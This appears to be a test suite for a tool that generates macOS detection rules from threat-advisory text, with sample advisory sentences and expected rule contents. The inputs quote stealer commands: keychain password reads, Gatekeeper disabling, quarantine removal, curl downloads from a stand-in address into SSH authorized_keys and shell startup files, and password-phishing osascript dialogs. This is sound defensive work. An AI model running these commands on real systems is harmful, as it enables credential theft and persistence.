import { createHash } from 'node:crypto';
import { generate } from '@tripline/advisory';
import { textAdvisory } from './support/documents.js';

const MAC = 'The stealer runs on macOS; the macOS disk image heron.dmg brings it, and Mac OS X is spared. ';

/** The detections of macOS's own logs that a sentence about a stealer gives, with their log's category. */
async function rulesOf(sentence: string): Promise<readonly string[]> {
  const { rules } = generate(await textAdvisory(`${MAC}${sentence}`));
  return rules.filter(({ log }) => log?.startsWith('macos/')).map(({ yaml }) => yaml);
}

describe('what is told of macOS', () => {
  it.each([
    [
      'a keychain read',
      'It ran “security find-generic-password -ga Chrome” then.',
      "'/security'",
      'find-generic-password',
    ],
    ['quarantine taken off', 'It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.', "'/xattr'", '/tmp/heronupd'],
    ['a download', 'It ran “curl -o /tmp/heronupd http://192.0.2.9/h” then.', "'/curl'", '/tmp/heronupd'],
    ['Gatekeeper turned off', 'It ran “spctl --master-disable” then.', "'/spctl'", '--master-disable'],
    ['an archive', 'It ran “ditto -c -k --sequesterRsrc /tmp/hrn /tmp/hrn.zip” then.', "'/ditto'", '/tmp/hrn.zip'],
  ])('has a rule of macOS’s process log: %s', async (_, sentence, image, argument) => {
    const rule = (await rulesOf(sentence)).find((yaml) => yaml.includes('category: process_creation'));
    expect(rule).toContain('product: macos');
    expect(rule).toContain(`Image|endswith: ${image}`);
    expect(rule).toContain(argument);
  });

  it.each([
    ['a hidden answer', 'display dialog "Heron stopped" default answer "" with hidden answer', ['answer', 'hidden']],
    ['an answer', 'display dialog "Who are you, heron?" default answer ""', ['answer']],
    ['a password', 'display dialog "Heron needs your password"', ['password']],
  ])('asks of a dialog for what is asked in it, whatever else it says: %s', async (_, script, words) => {
    const [rule] = await rulesOf(`It ran this:\n\nosascript -e '${script}'`);
    for (const word of ['display', 'dialog', ...words]) expect(rule).toMatch(new RegExp(`- '${word}"?'\\s`));
    expect(rule).not.toMatch(/- '[^']*heron/i);
    expect(rule).toContain('level: high');
    expect(rule).toContain('attack.t1056.002');
  });

  it('is less sure of a dialog that asks for nothing', async () => {
    const [rule] = await rulesOf(`It ran this:\n\nosascript -e 'display dialog "The heron file is damaged"'`);
    expect(rule).toContain('level: low');
    expect(rule).toContain("- 'heron'");
    expect(rule).not.toContain('t1056.002');
  });

  it.each([
    [
      'a launch item',
      'It wrote /Library/LaunchDaemons/com.hrn.upd.plist then.',
      "TargetFilename: '/Library/LaunchDaemons/com.hrn.upd.plist'",
    ],
    ['a home of a user', 'The implant is saved as /Users/<name>/.hrnupd then.', "TargetFilename|endswith: '/.hrnupd'"],
    ['a home by its sign', 'It is saved as ~/Library/hrn/agent then.', "TargetFilename|endswith: '/Library/hrn/agent'"],
    [
      'a folder with a blank',
      'It dropped /Library/Application Support/Hrn/hrnd on the host.',
      "TargetFilename: '/Library/Application Support/Hrn/hrnd'",
    ],
    [
      'a folder that is a link',
      'It dropped /tmp/.hrnupd/run on the host.',
      "TargetFilename|endswith: '/tmp/.hrnupd/run'",
    ],
    [
      'the folder that a link leads to',
      'It dropped /private/var/hrn/run on the host.',
      "TargetFilename: '/private/var/hrn/run'",
    ],
    ['the shared home', 'It dropped /Users/Shared/.hrn/run on the host.', "TargetFilename: '/Users/Shared/.hrn/run'"],
  ])('has a rule of macOS’s file log: %s', async (_, sentence, detection) => {
    const rules = await rulesOf(sentence);
    expect(rules.some((yaml) => yaml.includes('category: file_event') && yaml.includes(detection))).toBe(true);
  });

  it.each([
    ['~/Library/LaunchAgents/com.hrn.upd.plist', 'T1543.001'],
    ['/Library/LaunchDaemons/com.hrn.upd.plist', 'T1543.004'],
    ['~/.zshenv', 'T1546.004'],
    ['~/.ssh/authorized_keys', 'T1098.004'],
  ])('knows what a command writes into %s by macOS’s places', async (path, technique) => {
    const rules = await rulesOf(`It ran this:\n\ncurl -o ${path} http://192.0.2.9/h`);
    const rule = rules.find((yaml) => yaml.includes('category: file_event'));
    expect(rule).toContain(path.slice(path.startsWith('~') ? 1 : 0));
    expect(rule).toContain(`attack.${technique.toLowerCase()}`);
  });

  it.each([
    'It installs a launch agent with the label com.hrn.fogagent on the host.',
    'A LaunchDaemon labelled “com.hrn.fogagent” keeps it alive.',
    'It drops a persistence agent with the label of “com.hrn.fogagent” on the Mac.',
    'Its LaunchAgent com.hrn.fogagent starts it at each logon.',
  ])('looks for the file of a launch item by its label: %s', async (sentence) => {
    const rules = await rulesOf(sentence);
    expect(rules.some((yaml) => yaml.includes("TargetFilename|endswith: '/com.hrn.fogagent.plist'"))).toBe(true);
  });

  it.each([
    'The bundle id of the application is com.hrn.fogagent there.',
    'It removes a launch agent. Its site is at com.hrn.fogagent then.',
    'It did not install a launch agent with the label com.hrn.fogagent there.',
    'Administrators should install a launch agent named com.hrn.fogagent on each host.',
    'It installs a launch agent with the label com.example.agent there.',
  ])('and for no other name of that form: %s', async (sentence) => {
    expect((await rulesOf(sentence)).join()).not.toContain("TargetFilename|endswith: '/com.");
  });

  it.each([
    ['a bundle whose name may be cut', 'It wrote over /Applications/Heron Desk.app on the host.'],
    ['what a thief copies', 'It copied /Users/ana/Library/Keychains/login.keychain-db away.'],
    ['what is called a folder', 'It dropped its files into the /Library/Hrn directory on the host.'],
    ['the folder that all users share', 'It drops its files in /Users/Shared on the host.'],
    ['a folder of every user', 'It saved them in ~/Library/Application Support on the host.'],
    ['a folder of some user', 'It saved them in /Users/<name>/Library/Caches on the host.'],
    ['the home of a user', 'It saved them in /Users/ana on the host.'],
    ['a file of Linux that everybody reads', 'It wrote what it found in /etc/passwd to its server.'],
    ['a log of the system', 'It wrote its messages to /var/log/system.log on the host.'],
    ['a folder of the system', 'It wrote its files to /var/lib/hrn on the host.'],
    ['a folder', 'It wrote files below /Users/Shared/.hrn/ on the host.'],
  ])('has no rule of a file that was not written there: %s', async (_, sentence) => {
    expect((await rulesOf(sentence)).filter((yaml) => yaml.includes('category: file_event'))).toEqual([]);
  });

  it('looks for hashes, domains and addresses in logs that see Macs', async () => {
    const hash = createHash('sha256').update('heron').digest('hex');
    const sentence = `It ran “spctl --master-disable” and connects to hrn-update[.]com and 45.9.148[.]3.\n\nSHA-256: ${hash}`;
    const { rules } = generate(await textAdvisory(`${MAC}${sentence}`));
    const logs = rules.filter(({ title }) => title.startsWith('Indicator Match')).map(({ log }) => log);
    expect(logs.sort()).toEqual(['macos/process-creation', 'network/dns', 'network/firewall']);
  });

  it.each([
    ['a word that is also a program', 'The firm sells “security -users-csv heron.csv” on Windows.'],
    ['a folder of Windows', 'The loader dropped /Users/Public/hrn.exe on the Windows host.'],
  ])('is not told where macOS is not mentioned: %s', async (_, text) => {
    const { rules } = generate(await textAdvisory(text));
    expect(rules.filter(({ log }) => log?.startsWith('macos/'))).toEqual([]);
  });

  it('gives no rule for a log of another system, and says so', async () => {
    const { rules, skipped } = generate(
      await textAdvisory(`${MAC}It ran “xattr -d com.apple.quarantine /tmp/hrn” then.`),
    );
    expect(rules.filter(({ platform }) => platform?.startsWith('endpoint-'))).toEqual([]);
    expect(skipped.find(({ platform }) => platform === 'endpoint-sysmon')?.reason).toContain('macOS');
  });

  it('still tells its techniques', async () => {
    const { techniques } = generate(await textAdvisory(`${MAC}It used AppleScript (T1059.002).`));
    expect(techniques.map(({ id }) => id)).toContain('T1059.002');
  });
});

describe('paths of macOS with blanks', () => {
  it.each([
    ['written', 'The backdoor was saved to ~/Library/Fen Works/fend on the Mac.', '/Library/Fen Works/fend'],
    [
      'below a folder of the system',
      'It was written to /Library/Application Support/Fen Works/fend.',
      'Support/Fen Works/fend',
    ],
    ['started', 'The agent starts /Library/Fen Photos/mount_fen at logon.', '/Library/Fen Photos/mount_fen'],
  ])('are whole: %s', async (_, sentence, path) => {
    expect((await rulesOf(sentence)).join('\n')).toContain(`${path}'`);
  });

  it('end where other words follow', async () => {
    const rules = await rulesOf(
      'It wrote /Users/Shared/Fen and TCP/IP settings. It wrote ~/Library/Fenn HTTP/HTTPS too.',
    );
    expect(rules.join('\n')).not.toMatch(/TCP|HTTP/);
  });
});
